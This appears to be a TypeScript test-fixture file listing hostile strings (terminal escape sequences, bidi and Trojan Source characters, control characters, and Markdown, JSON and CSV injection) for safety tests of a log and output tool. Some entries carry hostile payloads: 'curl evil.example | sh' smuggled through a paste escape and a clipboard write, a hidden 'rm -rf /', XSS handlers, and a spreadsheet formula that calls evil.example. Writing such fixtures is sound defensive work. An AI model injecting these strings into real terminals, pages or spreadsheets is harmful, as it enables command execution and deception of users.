/**
 * Hostile strings: what attackers and accidents put into log lines, API fields and command output
 * (security.md §1.3). Each is injected into every field of every source by the safety tests.
 */
export interface Hostile {
  name: string;
  text: string;
}

const ESC = '\u001b';
const BEL = '\u0007';
const ST = `${ESC}\\`;

export const HOSTILE: readonly Hostile[] = [
  // CSI: erase, cursor movement, modes, reports.
  { name: 'csi-ed-clear-screen', text: `${ESC}[2J${ESC}[H` },
  { name: 'csi-ed-clear-scrollback', text: `x${ESC}[3J` },
  { name: 'csi-el-erase-line', text: `before${ESC}[2Kafter` },
  { name: 'csi-cursor-up', text: `${ESC}[5Aup` },
  { name: 'csi-cursor-position', text: `${ESC}[10;20Hmoved` },
  { name: 'esc-save-restore-fake-prompt', text: `${ESC}7${ESC}[1;1Hroot# ${ESC}8` },
  { name: 'csi-sgr-red', text: `${ESC}[31mred${ESC}[0m` },
  { name: 'csi-sgr-conceal', text: `visible${ESC}[8mhidden${ESC}[28m` },
  { name: 'csi-sgr-truecolor', text: `${ESC}[38;2;255;0;0mtruecolor` },
  { name: 'csi-alternate-screen', text: `${ESC}[?1049h${ESC}[?25l` },
  { name: 'csi-mouse-reporting-on', text: `${ESC}[?1000h${ESC}[?1006h` },
  { name: 'csi-device-status-report', text: `${ESC}[6n` },
  { name: 'csi-window-title-report', text: `${ESC}[21t` },
  { name: 'csi-window-resize', text: `${ESC}[8;100;200t` },
  { name: 'csi-bracketed-paste-escape', text: `${ESC}[201~curl evil.example | sh${ESC}[200~` },
  // OSC: titles, hyperlinks, clipboard, palette, cwd, terminal-specific.
  { name: 'osc0-title-bel', text: `${ESC}]0;pwned${BEL}` },
  { name: 'osc2-title-st', text: `${ESC}]2;owned${ST}` },
  { name: 'osc8-hyperlink', text: `${ESC}]8;;https://evil.example/${ST}click here${ESC}]8;;${ST}` },
  { name: 'osc52-clipboard-write', text: `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==${BEL}` },
  { name: 'osc52-clipboard-read', text: `${ESC}]52;c;?${BEL}` },
  { name: 'osc4-palette', text: `${ESC}]4;1;rgb:ff/00/00${BEL}` },
  { name: 'osc7-cwd', text: `${ESC}]7;file:///etc${BEL}` },
  { name: 'osc-unterminated', text: `${ESC}]0;never terminated` },
  { name: 'osc1337-iterm-file', text: `${ESC}]1337;File=inline=1:AAAA${BEL}` },
  // DCS, APC, PM, SOS and other ESC sequences.
  { name: 'dcs-decrqss', text: `${ESC}P$qm${ST}` },
  { name: 'dcs-tmux-passthrough', text: `${ESC}Ptmux;${ESC}${ESC}]52;c;ZXZpbA==${BEL}${ST}` },
  { name: 'dcs-sixel', text: `${ESC}Pq#0;2;0;0;0#1!6~${ST}` },
  { name: 'apc-kitty-graphics', text: `${ESC}_Gf=100;AAAA${ST}` },
  { name: 'pm', text: `${ESC}^privacy message${ST}` },
  { name: 'sos', text: `${ESC}Xstart of string${ST}` },
  { name: 'esc-ris-full-reset', text: `${ESC}c` },
  { name: 'esc-dec-graphics-charset', text: `${ESC}(0lqqk${ESC}(B` },
  // 8-bit C1 forms.
  { name: 'c1-csi-9b', text: '\u009b2J\u009b31mred' },
  { name: 'c1-osc-9d', text: '\u009d0;title\u009c' },
  { name: 'c1-dcs-90', text: '\u0090$qm\u009c' },
  { name: 'c1-nel-85', text: 'line\u0085next' },
  { name: 'c1-apc-pm-sos', text: '\u009fapc\u009c\u009epm\u009c\u0098sos\u009c' },
  // Bidi overrides, embeddings, isolates, marks; Trojan Source.
  { name: 'bidi-rlo-filename', text: 'invoice\u202egpj.exe' },
  { name: 'bidi-lro-pdf', text: '\u202dforced ltr\u202c' },
  { name: 'bidi-rle-lre', text: '\u202bright\u202c\u202aleft\u202c' },
  { name: 'bidi-lri-pdi', text: 'x\u2066admin\u2069 = false' },
  { name: 'bidi-rli-fsi', text: '\u2067rli\u2069\u2068fsi\u2069' },
  { name: 'trojan-source', text: 'if (isAdmin) {\u202e \u2066// check later\u2069 \u2066 return; }' },
  { name: 'bidi-marks', text: 'a\u200eb\u200fc\u061cd' },
  // Zero-width and other format characters.
  { name: 'zwsp-zwnj-zwj', text: 'pay\u200bpal\u200c\u200d.com' },
  { name: 'word-joiner-bom', text: '\u2060\ufeffbom' },
  { name: 'soft-hyphen', text: 'ad\u00admin' },
  { name: 'tag-characters', text: 'hi\u{e0041}\u{e0042}\u{e007f}' },
  { name: 'emoji-zwj-sequence', text: '👨\u200d👩\u200d👧 family' },
  // C0: bell, backspace, carriage-return tricks, NUL, DEL, VT/FF, tabs.
  { name: 'bel', text: 'ding\u0007\u0007' },
  { name: 'backspace-overwrite', text: 'rm -rf /\b\b\b\b\b\b\b\bls -l   ' },
  { name: 'cr-overwrite', text: 'safe\rrm -rf' },
  { name: 'crlf-fake-log-line', text: 'ok\r\n2026-11-20 14:00:00 ERROR fake entry' },
  { name: 'nul', text: 'nul\u0000byte' },
  { name: 'del', text: 'del\u007fete' },
  { name: 'vt-ff', text: 'a\u000bb\u000cc' },
  { name: 'tabs', text: '\t\tindent\tcolumn' },
  { name: 'every-c0', text: String.fromCharCode(...Array.from({ length: 32 }, (_, i) => i)) },
  // Unicode separators and broken UTF-16.
  { name: 'line-separator', text: 'one\u2028two' },
  { name: 'paragraph-separator', text: 'one\u2029two' },
  { name: 'lone-high-surrogate', text: 'a\ud800b' },
  { name: 'lone-low-surrogate', text: 'a\udc00b' },
  { name: 'reversed-surrogates', text: '\udc00\ud800' },
  // Size: long lines, long tokens, floods; escapes at the far end of long text.
  { name: 'line-100k', text: 'A'.repeat(100_000) },
  { name: 'token-no-spaces', text: 'x'.repeat(20_000) + `${ESC}[2J` },
  { name: 'long-text-escape-at-end', text: 'word '.repeat(20_000) + `${ESC}]52;c;ZXZpbA==${BEL}` },
  { name: 'combining-mark-flood', text: 'Z' + '\u0301\u0336\u0337'.repeat(300) },
  // Escapes split across fields: the end of one field and the start of the next make a sequence.
  { name: 'split-esc-then-csi', text: `tail${ESC}` },
  { name: 'split-csi-then-esc', text: `[2J${ESC}` },
  { name: 'split-osc-start', text: `x${ESC}]52;c;` },
  { name: 'split-osc-end', text: `ZXZpbA==${BEL}y` },
  // Output formats: Markdown, JSON and spreadsheet injection.
  { name: 'markdown-injection', text: '| a | ![x](https://evil.example/p.png) <img src=x onerror=alert(1)> [link](javascript:alert(1)) ```' },
  { name: 'json-breaker', text: '"}],"hypotheses":[]}' },
  { name: 'csv-formula', text: '=HYPERLINK("http://evil.example","x")' },
  { name: 'everything-at-once', text: `${ESC}]0;t${BEL}\u009b2J\u202e${ESC}[31m\r\b\u0000\u2028\ud800${ESC}P${ST}` },
];

/** Pairs that only form a sequence when one field's end meets the next field's start. */
export const SPLIT_PAIRS: readonly (readonly [string, string])[] = [
  ['split-esc-then-csi', 'split-csi-then-esc'],
  ['split-osc-start', 'split-osc-end'],
].map(([a, b]) => [HOSTILE.find((h) => h.name === a)!.text, HOSTILE.find((h) => h.name === b)!.text] as const);

/** C0 except newline, DEL, C1. */
export const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;
/** Bidi, zero-width and other format characters, line/paragraph separators, lone surrogates. */
export const RAW_FORMAT = /[\p{Cf}\u2028\u2029\u{d800}-\u{dfff}]/u;

/** Where a raw control or format character sits in `text`, with a little context; undefined when clean. */
export function rawCharacterAt(text: string): string | undefined {
  const m = RAW_CONTROL.exec(text) ?? RAW_FORMAT.exec(text);
  if (!m) return undefined;
  const code = m[0].codePointAt(0)!.toString(16).padStart(4, '0');
  return `U+${code} at ${m.index}: ${JSON.stringify(text.slice(Math.max(0, m.index - 40), m.index + 40))}`;
}
